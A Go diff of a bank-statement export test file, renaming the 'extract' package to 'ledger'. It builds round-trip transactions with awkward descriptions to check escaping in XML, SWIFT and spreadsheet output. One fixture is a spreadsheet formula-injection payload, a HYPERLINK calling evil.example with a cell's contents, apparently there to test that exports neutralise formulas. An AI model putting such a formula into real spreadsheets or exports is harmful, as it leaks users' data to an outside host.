@@ -23,11 +23,11 @@ import (
 	"testing"
 	"time"
 
+	"passbook/extract/ledger"
+
 	"github.com/shopspring/decimal"
 	"github.com/xuri/excelize/v2"
 	"golang.org/x/text/encoding/charmap"
-
-	"passbook/extract"
 )
 
 // Accounts of the round-trip statement.
@@ -44,11 +44,11 @@ var longDescription = strings.Repeat("A", 57) + "::--" + strings.Repeat("B", 60)
 // IBAN, one in pounds, masked, overdrawn (negative balances), with two
 // identical rows, and descriptions full of characters that XML, SGML and
 // SWIFT escape differently.
-func roundTrip() *extract.Result {
-	eur := func(date, desc, in, out, bal string, warn ...string) extract.Transaction {
-		t := extract.Transaction{Date: day(date), Description: desc, Balance: *dec(bal), Account: ibanAccount}
+func roundTrip() *ledger.Result {
+	eur := func(date, desc, in, out, bal string, warn ...string) ledger.Transaction {
+		t := ledger.Transaction{Date: day(date), Description: desc, Balance: *dec(bal), Account: ibanAccount}
 		for _, w := range warn {
-			t.Warnings = append(t.Warnings, extract.Warning{Kind: extract.WarnNote, Message: w})
+			t.Warnings = append(t.Warnings, ledger.Warning{Kind: ledger.WarnNote, Message: w})
 		}
 		if in != "" {
 			t.AmountIn = dec(in)
@@ -57,14 +57,14 @@ func roundTrip() *extract.Result {
 		}
 		return t
 	}
-	gbp := func(date, desc, in, out, bal string) extract.Transaction {
+	gbp := func(date, desc, in, out, bal string) ledger.Transaction {
 		t := eur(date, desc, in, out, bal)
 		t.Account = maskedAccount
 		return t
 	}
-	return &extract.Result{
+	return &ledger.Result{
 		PageCount: 3,
-		Transactions: []extract.Transaction{
+		Transactions: []ledger.Transaction{
 			eur("2024-03-01", `Café "Le Petit", Müller & Söhne <GmbH>`, "", "12.50", "987.50"),
 			gbp("2024-03-01", "OVERDRAFT FEE", "", "25.00", "-125.00"),
 			eur("2024-03-02", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "1234567.89", "", "1235555.39"),
@@ -76,21 +76,21 @@ func roundTrip() *extract.Result {
 			gbp("2024-03-07", "COFFEE", "", "3.20", "-1265.96"),
 			eur("2024-03-08", ":86:-starts like a field", "", "0.50", "1235549.88"),
 		},
-		Statement: extract.Statement{
+		Statement: ledger.Statement{
 			AccountNumber: ibanAccount,
 			Currency:      "EUR",
 			PeriodStart:   dayPtr("2024-03-01"),
 			PeriodEnd:     dayPtr("2024-03-31"),
-			Reconciliation: extract.Reconciliation{
-				Status: extract.ReconcileOK, Message: "every row is proved by a printed balance",
+			Reconciliation: ledger.Reconciliation{
+				Status: ledger.ReconcileOK, Message: "every row is proved by a printed balance",
 			},
-			Accounts: []extract.Account{
+			Accounts: []ledger.Account{
 				{Number: ibanAccount, Currency: "EUR", PeriodStart: dayPtr("2024-03-01"), PeriodEnd: dayPtr("2024-03-31"),
 					OpeningBalance: dec("1000.00"), ClosingBalance: dec("1235549.88"),
-					Reconciliation: extract.Reconciliation{Status: extract.ReconcileOK}},
+					Reconciliation: ledger.Reconciliation{Status: ledger.ReconcileOK}},
 				{Number: maskedAccount, Currency: "GBP", PeriodStart: dayPtr("2024-03-01"), PeriodEnd: dayPtr("2024-03-31"),
 					OpeningBalance: dec("-100.00"), ClosingBalance: dec("-1265.96"),
-					Reconciliation: extract.Reconciliation{Status: extract.ReconcileOK}},
+					Reconciliation: ledger.Reconciliation{Status: ledger.ReconcileOK}},
 			},
 		},
 	}
@@ -113,7 +113,7 @@ type wantTx struct {
 }
 
 // fromJSON reads the JSON download of res and groups its rows by account.
-func fromJSON(t *testing.T, res *extract.Result) []wantAccount {
+func fromJSON(t *testing.T, res *ledger.Result) []wantAccount {
 	t.Helper()
 	var doc struct {
 		Transactions []struct {
@@ -166,7 +166,7 @@ func fromJSON(t *testing.T, res *extract.Result) []wantAccount {
 func spaced(s string) string { return strings.Join(strings.Fields(s), " ") }
 
 // writeFile writes format f of res into dir and returns the path.
-func writeFile(t *testing.T, dir string, f Format, opts Options, res *extract.Result) string {
+func writeFile(t *testing.T, dir string, f Format, opts Options, res *ledger.Result) string {
 	t.Helper()
 	var buf bytes.Buffer
 	if err := Write(&buf, f, opts, res); err != nil {
@@ -325,7 +325,7 @@ func windows1252(s string) string {
 // download, at another time, of the same statement gives the same ids,
 // and two identical rows get two ids.
 func TestFITIDStable(t *testing.T) {
-	ids := func(res *extract.Result) []string {
+	ids := func(res *ledger.Result) []string {
 		var out []string
 		for _, b := range blocks(res) {
 			for _, r := range b.rows {
@@ -992,7 +992,7 @@ func FuzzStatementText(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, desc string) {
-		res := &extract.Result{Transactions: []extract.Transaction{
+		res := &ledger.Result{Transactions: []ledger.Transaction{
 			{Date: day("2024-02-29"), Description: desc, AmountOut: dec("5"), Balance: *dec("-5")},
 		}}
 		var camt, mt, ofx bytes.Buffer
